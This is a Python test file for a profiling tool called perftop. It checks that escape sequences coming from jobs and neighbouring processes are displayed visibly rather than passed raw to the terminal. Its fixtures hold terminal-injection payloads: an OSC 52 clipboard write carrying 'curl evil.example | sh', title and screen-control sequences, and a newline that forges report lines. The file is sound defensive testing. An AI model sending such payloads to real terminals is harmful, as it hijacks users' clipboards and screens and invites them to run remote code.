"""Nothing a job or a neighbour writes reaches the terminal raw (issue 43, item 9).

A real job prints escape sequences (OSC 52 to the clipboard, a window title, the alternate
screen, mouse reporting, a clear, a C1 CSI, a DCS) and carries them in its command line:
`perftop run`'s own lines, `perftop report`, `perftop ls` and the TUI (live panels fed its
recording, and every panel fed hostile names) show them as ``^[``, never as the bytes."""

from __future__ import annotations

import asyncio
import dataclasses
import functools
import re
import subprocess
import sys
from pathlib import Path

import pytest
from rich.text import Text
from textual.widgets import Static

from perftop.model.snapshot import NoteRow, OutputLine, ProcRow
from perftop.monitor.jobenv import RunConfig
from perftop.monitor.runner import Job
from perftop.report.build import session_from_file
from perftop.safe import visible, visible_line
from perftop.tui.app import PerftopApp
from perftop.tui.messages import SnapshotMessage
from tests.helpers import perftop
from tests.tui.fakes import MAIN, snapshot

EVIL = (
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # OSC 52: `curl evil.example | sh`
    "\x1b]0;PWNED\x07"  # the window's title
    "\x1b[?1049h\x1b[?1000h"  # the alternate screen, mouse reporting
    "\x1b[2J"  # clear the screen
    "\x9b?1049l"  # a C1 CSI
    "\x1bP+q544e\x1b\\"  # a DCS
)
# A newline in a name the job chooses (a dataset's class) would forge a line of the report
# of its own: a hint's evidence, a table's row.
FORGED = "\nFAKE: a line the job forged"
JOB = f"""
import sys, time
EVIL = {EVIL!r}
for i in range(3):
    print("line", i, EVIL, flush=True)
    print("err", i, EVIL, file=sys.stderr, flush=True)
if sys.argv[2:] == ["wait"]:
    print("ready", flush=True)
    time.sleep(60)
else:  # steps that wait for their data, loaded by the training process from a named dataset
    import torch
    from torch.utils.data import DataLoader, Dataset

    def item(ds, i):
        time.sleep(0.01)
        return torch.randn(4)

    named = type("DS" + EVIL + {FORGED!r}, (Dataset,), dict(__len__=lambda ds: 160, __getitem__=item))
    model = torch.nn.Linear(4, 1)
    opt = torch.optim.SGD(model.parameters(), 0.1)
    for x in DataLoader(named(), batch_size=4):
        model(x).sum().backward()
        opt.step()
        opt.zero_grad()
"""
# What may remain of perftop's own terminal output: colours and cursor moves.
OURS = re.compile(r"\x1b\[[0-9;:]*m|\x1b\[\d+;\d+H|\x1b\[\d*[ABCDG]")


def raw(text: str) -> list[str]:
    """The control characters in ``text`` that are not perftop's own colours and moves."""
    return re.findall(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", OURS.sub("", text))


def aio(fn):
    @functools.wraps(fn)
    def run(*args, **kwargs):
        asyncio.run(fn(*args, **kwargs))

    return run


@pytest.fixture(scope="module")
def evil_run(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, subprocess.CompletedProcess]:
    tmp = tmp_path_factory.mktemp("escapes")
    (tmp / "evil.py").write_text(JOB)
    rec = tmp / "r.perftop"
    proc = perftop(
        "run", "--headless", "--record", str(rec), "--", sys.executable, "evil.py", EVIL, cwd=tmp
    )
    assert proc.returncode == 0, proc.stderr
    # As under the TUI: the job's output captured into the recording (and the panel).
    cfg = RunConfig(
        (sys.executable, str(tmp / "evil.py"), EVIL), tmp / "tui.perftop", capture_output=True
    )
    assert Job(cfg).start().wait() == 0
    return tmp, proc


def test_visible_shows_every_control_as_less_does() -> None:
    assert visible("a\x1b]0;t\x07b") == "a^[]0;t^Gb"
    assert visible("\x00\x7f\x9b\x85") == "^@^?<9B><85>"
    assert visible("tab\tand\nnewline") == "tab\tand\nnewline"  # kept
    assert visible_line("tab\tand\nnewline\r") == "tab^Iand^Jnewline^M"
    assert visible("bad byte \udc9b") == "bad byte <9B>"  # surrogateescape'd, not an error
    assert visible("\u202eevil") == "<U+202E>evil"
    plain = "ünïcode ✓ text"
    assert visible(plain) is plain


def test_perftops_own_lines_are_one_line_each(capsys) -> None:
    """A line perftop says on stderr (a notice, an error naming a path, a stack's
    function) is one line whatever a name in it holds."""
    from perftop.console import say

    say(f"perftop: error: /data/x{FORGED}\x1b]0;t\x07")
    assert (
        capsys.readouterr().err == "perftop: error: /data/x^JFAKE: a line the job forged^[]0;t^G\n"
    )


def test_run_and_report_show_the_escapes_visibly(evil_run) -> None:
    tmp, proc = evil_run
    # Headless, the job's own streams pass through as they would without perftop; the
    # lines perftop adds, its summary, carry nothing raw.
    ours = "\n".join(line for line in proc.stderr.splitlines() if not line.startswith("err "))
    assert "perftop: exited (0)" in ours and raw(ours) == []
    rep = perftop("report", str(tmp / "r.perftop"), cwd=tmp)
    assert rep.returncode == 0, rep.stderr
    assert raw(rep.stdout) == [] and raw(rep.stderr) == []
    assert "^[]52;c;" in rep.stdout and "<9B>?1049l" in rep.stdout
    # the dataset's name in the DataLoaders table and in input-bound's evidence, each on
    # its line, its newline shown (the report had "FAKE: …" as a line of its own)
    lines = rep.stdout.splitlines()
    assert not [ln for ln in lines if ln.startswith("FAKE")], rep.stdout
    named = [ln for ln in lines if "^JFAKE: a line the job forged" in ln]
    assert any("itself (DS" in ln for ln in named), rep.stdout  # input-bound's evidence
    assert any(" L0  DS^[]52;c;" in ln for ln in named), named  # the DataLoaders row


def terminal_bytes(app: PerftopApp) -> str:
    """What the app would write to the terminal for its whole screen now."""
    update = app.screen._compositor.render_full_update()
    return update.render_segments(app.console)


@aio
async def test_the_jobs_output_reaches_the_tui_visibly(evil_run) -> None:
    tmp, _ = evil_run
    snap = session_from_file(str(tmp / "tui.perftop")).snapshot(window=None)
    assert any("\x1b]52" in line.text for line in snap.output)  # kept whole in the model
    app = PerftopApp()
    async with app.run_test(size=(160, 48)) as pilot:
        app.post_message(SnapshotMessage(snap))
        for _ in range(3):
            await pilot.pause()
        screen = terminal_bytes(app)
        assert raw(screen) == []
        assert "^[]52;c;" in screen and "^[]0;PWNED^G" in screen  # output and header


def hostile(snap):
    """Every name a job or a neighbour chooses, with escapes in it."""
    bad = "\x1b]0;T\x07x\x9b2J"
    procs = tuple(
        dataclasses.replace(p, name=f"py{bad}", cmdline=f"python {bad}") for p in snap.processes
    ) + (ProcRow(7777, ppid=MAIN, name=f"w{bad}", cpu_percent=1.0),)
    sync = tuple(
        dataclasses.replace(s, file=f"/h/tr{bad}.py", function=f"f{bad}", op=f"item{bad}")
        for s in snap.sync
    )
    loaders = tuple(dataclasses.replace(ld, dataset=f"DS{bad}") for ld in snap.loaders)
    out = (OutputLine(snap.meta.now_t, "stdout", f"out {bad} [bold]x[/]"),)
    return dataclasses.replace(
        snap,
        meta=dataclasses.replace(snap.meta, command=("python", f"t{bad}.py")),
        processes=procs,
        sync=sync,
        loaders=loaders,
        output=out,
        output_total=1,
        notes=(*snap.notes, NoteRow(snap.meta.now_t, "warning", "stacks", f"n{bad} [red]")),
    )


@aio
async def test_every_panel_shows_hostile_names_visibly() -> None:
    app = PerftopApp()
    async with app.run_test(size=(200, 60)) as pilot:
        app.post_message(SnapshotMessage(hostile(snapshot())))
        for _ in range(3):
            await pilot.pause()
        for panel in ("4", "5", "6"):  # zoom each table panel: all its rows drawn
            await pilot.press(panel)
            await pilot.pause()
            screen = terminal_bytes(app)
            assert raw(screen) == [], panel
            assert "^[]0;T^Gx<9B>2J" in screen, panel
            await pilot.press("escape")
            await pilot.pause()
        assert "[bold]x[/]" in terminal_bytes(app)  # plain text, never markup
        app.notify("from a peer: \x1b]52;c;eA==\x07 [b]x[/b]")  # a capture's error, say
        await pilot.pause(0.3)
        (note,) = app._notifications
        assert note.message == "from a peer: ^[]52;c;eA==^G [b]x[/b]" and not note.markup
        assert raw(terminal_bytes(app)) == []


@aio
async def test_a_panel_that_forgot_is_caught_before_the_terminal() -> None:
    app = PerftopApp()
    async with app.run_test(size=(120, 40)) as pilot:
        await app.screen.mount(Static(Text("forgot\x1b]52;c;eA==\x07\x9b2Jend")))
        await pilot.pause()
        screen = terminal_bytes(app)
        assert raw(screen) == [] and "forgot]52;c;eA==2Jend" in screen


def test_ls_shows_a_neighbours_command_line_visibly(evil_run) -> None:
    tmp, _ = evil_run
    mon = subprocess.Popen(
        [sys.executable, "-m", "perftop", "run", "--headless", "--no-record", "--",
         sys.executable, "evil.py", EVIL, "wait"],
        cwd=tmp, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, stdin=subprocess.DEVNULL,
        text=True,
    )  # fmt: skip
    try:
        assert mon.stdout is not None
        while "ready" not in mon.stdout.readline():
            pass
        ls = perftop("ls", cwd=tmp)
        assert ls.returncode == 0, ls.stderr
        assert "^[]52;c;" in ls.stdout
        assert raw(ls.stdout) == [] and raw(ls.stderr) == []
        # its command is longer than the column: cut where it shows it was cut, never bare
        (row,) = [ln for ln in ls.stdout.splitlines() if "evil.py" in ln]
        assert "…" in row and "wait" not in row.split("evil.py", 1)[1], row
    finally:
        mon.terminate()
        mon.wait(timeout=30)
